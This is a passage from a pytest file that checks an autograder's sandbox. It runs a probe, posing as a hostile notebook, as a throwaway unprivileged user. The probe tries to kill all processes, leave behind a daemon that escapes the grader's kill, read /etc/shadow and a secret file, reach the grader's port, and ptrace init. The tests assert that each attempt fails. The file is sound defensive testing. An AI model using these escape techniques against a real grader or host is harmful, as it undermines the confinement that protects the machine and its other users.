        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    # A notebook that leaves a daemon, and escapes the parent-death signal and the process
    # group the grader kills.
    if os.fork() == 0:
        os.setsid()
        libc.prctl(1, 0, 0, 0, 0)
        libc.prctl(15, b"atk-daemon", 0, 0, 0)
        time.sleep(120)
        os._exit(0)
    libc.prctl(1, 0, 0, 0, 0)
    os.setsid()
    libc.prctl(15, b"atk-notebook", 0, 0, 0)
    os.write(write, (json.dumps(seen) + "\n").encode())
    os.close(write)
    time.sleep(120)
    os._exit(0)
os.close(write)
data = b""
while not data.endswith(b"\n"):  # one line: the daemon it leaves holds the pipe open
    chunk = os.read(read, 65536)
    if not chunk:
        break
    data += chunk
report["inside"] = json.loads(data or b"{}")
try:
    listener.accept()
    report["accepted"] = True
except BlockingIOError:
    report["accepted"] = False
# What the grader does when a notebook ends: kill its process group and its process, reap it.
for kill in (lambda: os.killpg(pid, signal.SIGKILL), lambda: os.kill(pid, signal.SIGKILL)):
    try:
        kill()
    except OSError:
        pass
os.waitpid(pid, 0)
time.sleep(1)
left = []
for name in os.listdir("/proc"):
    try:
        comm = open(f"/proc/{name}/comm").read().strip()
    except OSError:
        continue
    if comm.startswith("atk-"):
        left.append([int(name), comm])
        os.kill(int(name), signal.SIGKILL)  # ours: this probe started them
report["left"] = left
print(json.dumps(report))
'''


def _kill_processes_of(uid: int) -> None:
    """End the processes of the test's own user (made for this test), each by its id."""
    for name in os.listdir("/proc"):
        try:
            status = Path(f"/proc/{name}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if name.isdigit() and fields.get("Uid", "").split()[:1] == [str(uid)]:
            try:
                os.kill(int(name), 9)
            except OSError:
                pass


@pytest.fixture(scope="module")
def unprivileged(tmp_path_factory):
    """The sandbox module run by Debian's Python as an unprivileged user made for the test."""
    python = Path("/usr/bin/python3")
    if os.geteuid() != 0 or not python.exists() or shutil.which("useradd") is None:
        pytest.skip("needs root, useradd and /usr/bin/python3 (as in CI)")
    name = "agsandbox"
    try:
        pwd.getpwnam(name)
        created = False
    except KeyError:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
                       check=True)
        created = True
    user = pwd.getpwnam(name)
    # Not under pytest's temporary folder: that one is mode 700, closed to the user.
    folder = Path(tempfile.mkdtemp(prefix="autograder-unprivileged-"))
    os.chmod(folder, 0o755)
    package = folder / "autograder" / "sandbox"  # the package's confinement modules alone
    package.mkdir(parents=True)
    shutil.copy(REPO / "autograder" / "__init__.py", package.parent)
    shutil.copy(REPO / "autograder" / "units.py", package.parent)
    for name in ("__init__", "confine", "limits", "policy", "probe", "seccomp", "sockets",
                 "syscalls"):
        shutil.copy(REPO / "autograder" / "sandbox" / f"{name}.py", package)
    (folder / "probe.py").write_text(_UNPRIVILEGED_PROBE)
    for path in [folder, *folder.rglob("*")]:
        os.chown(path, user.pw_uid, user.pw_gid)
    try:
        done = subprocess.run([str(python), "-I", "-S", str(folder / "probe.py")],
                              user=user.pw_uid, group=user.pw_gid, extra_groups=[],
                              cwd=folder, env={"PATH": "/usr/bin:/bin", "HOME": str(folder),
                                               "LANG": "C.UTF-8"},
                              capture_output=True, text=True, timeout=120)
    finally:
        if created:  # what the probe started, if it could not end them; then the user
            _kill_processes_of(user.pw_uid)
            subprocess.run(["userdel", name], check=False)
        shutil.rmtree(folder, ignore_errors=True)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_unprivileged_sandbox_confines(unprivileged):
    assert unprivileged["user"] != 0
    assert unprivileged["available"] is None, unprivileged["available"]
    inside = unprivileged["inside"]
    assert inside["uid"] == 1000, inside
    assert set(inside["pids"]) <= {1, 2}, inside  # its own namespace: itself (and an init)
    assert inside["secret"] == "No such file or directory", inside
    assert inside["passwd-shadow"] == "No such file or directory", inside
    assert inside["home"] == "No such file or directory", inside
    # The grader's port on the machine's loopback is out of reach: the sandbox's own network
    # namespace has only its own loopback (up, for lesson 08's two processes), where nothing
    # listens on that port.
    assert inside["network"] in ("Connection refused", "Network is unreachable"), inside
    assert unprivileged["accepted"] is False
    if "ptrace-init" in inside:  # the notebook runs under an init: it cannot take it over
        assert inside["ptrace-init"] == "Operation not permitted", inside
        assert inside["init-memory"] in ("Operation not permitted", "Permission denied"), inside


def test_unprivileged_sandbox_leaves_no_process(unprivileged):
    assert unprivileged["left"] == [], unprivileged["left"]
